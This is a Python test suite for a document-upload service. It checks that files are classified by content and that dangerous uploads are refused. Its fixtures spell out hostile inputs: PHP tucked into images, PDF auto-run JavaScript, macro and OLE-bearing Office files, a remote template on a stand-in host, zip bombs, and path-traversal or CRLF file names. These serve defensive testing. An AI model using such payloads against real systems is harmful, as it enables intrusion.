"""Which files are taken: told by their bytes; what could do harm is refused."""

from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from core.errors import Refused
from planning.models import Document
from planning.services.documents import add_document, file_name_of
from programs import files
from tests import make

from . import bringing

pytestmark = [pytest.mark.django_db, pytest.mark.once]
EXTERNAL = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" '
    'Target="http://jahat.example/a.dotm" TargetMode="{}"/></Relationships>'
)


def on_disk(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()]


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_is_drawn_anew_without_what_was_hidden(focal, health, kind):
    data = make.image(kind) + b"<?php jahat"
    row = bringing.document(focal, health, data)
    held = files.path_of(row.sha256).read_bytes()
    assert row.media_type == files.JPEG
    assert b"<?php" not in held
    assert Image.open(BytesIO(held)).format == "JPEG"


def _locked() -> bytes:
    data = bytearray(bringing.office())
    for sign in (b"PK\x03\x04", b"PK\x01\x02"):
        place = data.index(sign) + (6 if sign == b"PK\x03\x04" else 8)
        data[place] |= 1
    return bytes(data)


REFUSED = {
    "empty": (b"", "empty"),
    "program named pdf": (b"MZ\x90\x00" + bringing.pdf(), "unknown_type"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "unknown_type"),
    "html": (b"<!doctype html><script>alert(1)</script>", "unknown_type"),
    "gif": (make.image("GIF"), "unknown_type"),
    "webp": (make.image("WEBP"), "unknown_type"),
    "old doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "unknown_type"),
    "plain zip": (bringing.archive({"a.txt": "a"}), "unknown_type"),
    "word and sheet at once": (
        bringing.office("word", **{"xl/workbook.xml": "<a/>"}),
        "unknown_type",
    ),
    "pdf and zip at once": (
        bringing.pdf() + bringing.archive({"a": "b"}) + b"%%EOF",
        "unknown_type",
    ),
    "cut pdf": (b"%PDF-1.4\n1 0 obj", "damaged"),
    "pdf that runs": (bringing.pdf("/OpenAction<</S/JavaScript/JS(a)>>"), "has_code"),
    "pdf that hides it": (bringing.pdf("/OpenAction<</S/JavaScr#69pt/JS(a)>>"), "has_code"),
    "cut docx": (bringing.office()[:-30], "damaged"),
    "locked docx": (_locked(), "damaged"),
    "cut picture": (make.image("JPEG")[:90], "damaged"),
    "docm by its part": (bringing.office(**{"word/vbaProject.bin": b"x"}), "has_code"),
    "docm by its type": (
        bringing.archive(
            {
                "[Content_Types].xml": '<Override ContentType="application/vnd.ms-word.document.'
                'macroEnabled.main+xml"/>',
                "word/document.xml": "<a/>",
            }
        ),
        "has_code",
    ),
    "object inside": (bringing.office(**{"word/embeddings/oleObject1.bin": b"MZ"}), "has_code"),
    "template from outside": (
        bringing.office(
            **{"word/_rels/settings.xml.rels": EXTERNAL.format("attachedTemplate", "External")}
        ),
        "links_out",
    ),
    "template, written with entities": (
        bringing.office(
            **{"word/_rels/settings.xml.rels": EXTERNAL.format("attachedTemplate", "Ext&#101;rnal")}
        ),
        "links_out",
    ),
    "ties that describe themselves": (
        bringing.office(**{"_rels/.rels": "<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>"}),
        "damaged",
    ),
    "part that leads out": (bringing.office(**{"../../jahat.xml": "x"}), "damaged"),
    "bomb": (bringing.office("xl", **{"xl/sheet.xml": b"\0" * 20_000_000}), "unpacks_too_far"),
    "thousands of parts": (
        bringing.office(**{f"word/{n}.xml": "" for n in range(files.MOST_ENTRIES)}),
        "unpacks_too_far",
    ),
    "large picture": (make.image().ljust(5_000_001, b"\0"), "too_large"),
}


@pytest.mark.asvs("5.2.2", "5.2.3", "1.5.1")
@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED)
def test_what_could_do_harm_is_refused_in_words(focal, health, media, data, code):
    with pytest.raises(Refused) as refusal:
        add_document(
            Document(regency=make.regency(), opd=health, kind="decree", title="SK", year=2026),
            data,
            actor=focal,
            file_name="sk.pdf",
        )
    assert (refusal.value.code, refusal.value.problems[0].field) == (code, "file")
    assert not on_disk(media)


def test_links_that_are_pressed_are_no_harm(focal, health):
    ties = EXTERNAL.format("hyperlink", "External") + EXTERNAL.format("image", "Internal")
    data = bringing.office(**{"word/_rels/document.xml.rels": ties})
    assert bringing.document(focal, health, data).media_type == files.DOCX


@pytest.mark.asvs("5.4.1", "5.3.2")
@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\data\\SK Pokja.docx", "SK Pokja.pdf"),
        ('a"b\r\nc.pdf', "a_b_c.pdf"),
        ("....", "dokumen.pdf"),
        ("x" * 400 + ".pdf", "x" * 140 + ".pdf"),
    ],
)
def test_names_lose_what_could_lead_astray(sent, kept):
    assert file_name_of(sent, files.PDF) == kept
